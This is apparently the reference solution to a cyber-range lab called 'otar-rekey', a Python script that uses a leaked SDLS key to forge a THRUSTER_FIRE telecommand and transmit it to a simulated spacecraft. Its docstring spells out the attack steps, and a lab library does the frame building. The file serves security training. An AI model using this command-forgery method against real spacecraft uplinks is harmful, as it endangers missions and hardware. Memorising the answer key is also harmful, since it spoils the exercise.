"""Reference attack for otar-rekey: run on the attacker workstation, as the student.

1. Read the leaked key and its SPI from ``~/incident.txt``.
2. Listen on the uplink air (UDP 5101 on the rf segment) until a frame of mission control
   on that SPI goes by: its header gives the spacecraft id, its SDLS IV the SA's counter
   (the next frame must carry a higher one).
3. Build THRUSTER_FIRE with the scapy layers (TC frame of type BD, so COP-1 is not
   involved / segment header / space packet / PUS-C 8,1), protect it with the leaked key
   (SDLS AES-GCM, sequence number = highest heard + 1) and transmit it to rf-link:5100
   (``labctl.range.uplinkair`` holds these steps, shared with the other stolen-key labs).
   The spacecraft executes a command mission control never sent.

Exit status 0 when the forged frame was sent; 2 when a step failed (message on the last
line).
"""

from __future__ import annotations

import sys
from pathlib import Path

from labctl.range.missionclient import handout_fields
from labctl.range.uplinkair import UplinkListener

INCIDENT = Path.home() / "incident.txt"
WAIT_FOR_TRAFFIC_S = 90.0


def leaked() -> tuple[int, bytes]:
    """The SPI and key the incident file reports."""
    fields = handout_fields(INCIDENT)
    return int(fields["uplink_spi"]), bytes.fromhex(fields["uplink_key"])


def main() -> int:
    heard = UplinkListener().start()
    try:
        spi, key = leaked()
    except (OSError, KeyError, ValueError) as exc:
        print(f"cannot read {INCIDENT}: {exc}", flush=True)
        return 2
    print(f"leaked key for SPI {spi}: {key.hex()}", flush=True)
    sent = heard.fire(key, spi, WAIT_FOR_TRAFFIC_S)
    if sent is None:
        print(f"no uplink frame on SPI {spi} heard: wait for mission control to command")
        return 2
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
